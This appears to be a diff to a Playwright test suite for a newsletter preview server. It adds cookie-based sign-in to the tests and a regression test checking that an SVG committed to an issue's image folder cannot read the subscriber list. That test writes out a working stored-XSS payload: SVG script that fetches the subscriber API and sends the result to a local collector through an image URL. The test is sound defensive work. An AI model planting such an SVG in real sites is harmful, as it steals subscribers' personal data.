@@ -45,10 +45,17 @@ def server(settings):
     srv.stop()
 
 
+def sign_in(page, server) -> None:
+    """Open the address `digest preview` prints: its token becomes the context's cookie."""
+    page.goto(server.login_url())
+    assert "token=" not in page.url  # moved to an HttpOnly cookie, out of the address bar
+
+
 @pytest.fixture
 def page(browser, server):
     context = browser.new_context(viewport={"width": 1280, "height": 900})
     page = context.new_page()
+    sign_in(page, server)
     errors: list[str] = []
     page.on("pageerror", lambda exc: errors.append(str(exc)))
     yield page
@@ -231,6 +238,7 @@ def test_light_and_dark_do_not_follow_the_viewers_own_setting(browser, server):
     context = browser.new_context(viewport={"width": 1280, "height": 900}, color_scheme="dark")
     try:
         page = context.new_page()
+        sign_in(page, server)
         open_issue(page, server, "#m=light")
         title_color = TITLE_COLOR
         assert page.evaluate(title_color) == "rgb(29, 53, 87)"
@@ -280,6 +288,7 @@ def test_the_page_loads_nothing_from_elsewhere_and_email_links_open_a_new_tab(br
     context.route(re.compile(r"^(?!http://127\.0\.0\.1:)"), stub)
     try:
         page = context.new_page()
+        sign_in(page, server)
         frame = open_issue(page, server)
         for view in ("text", "headers", "source", "email"):
             page.click(f"[data-view={view}]")
@@ -293,3 +302,38 @@ def test_the_page_loads_nothing_from_elsewhere_and_email_links_open_a_new_tab(br
         assert frame.locator("h1").inner_text() == "Learning & Innovation Highlights 2023"
     finally:
         context.close()
+
+
+def test_an_svg_in_the_issue_folder_cannot_read_the_subscriber_list(page, server, project):
+    import http.server
+    import threading
+
+    stolen: list[str] = []
+
+    class Collector(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):  # noqa: N802 - the base class's name
+            stolen.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, *args):
+            pass
+
+    collector = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Collector)
+    threading.Thread(target=collector.serve_forever, daemon=True).start()
+    try:
+        # What a contributor could commit next to the issue's images, and a link in the email could open.
+        (project / "issues" / "images" / "chart.svg").write_text(
+            '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>'
+            "fetch('/api/subscribers?q=').then(r => r.text()).then(t => {"
+            " document.documentElement.setAttribute('data-stolen', t);"
+            f" new Image().src = 'http://127.0.0.1:{collector.server_address[1]}/?d=' + encodeURIComponent(t.slice(0, 300));"
+            " })</script></svg>", encoding="utf-8")
+        open_issue(page, server)  # signed in: the preview's cookie is there, as for its user
+        page.goto(f"{server.url}/issue/{EXAMPLE_ISSUE}/files/images/chart.svg")
+        page.wait_for_timeout(1500)
+        assert stolen == []
+        assert page.evaluate("document.documentElement.getAttribute('data-stolen')") is None
+    finally:
+        collector.shutdown()
+        collector.server_close()
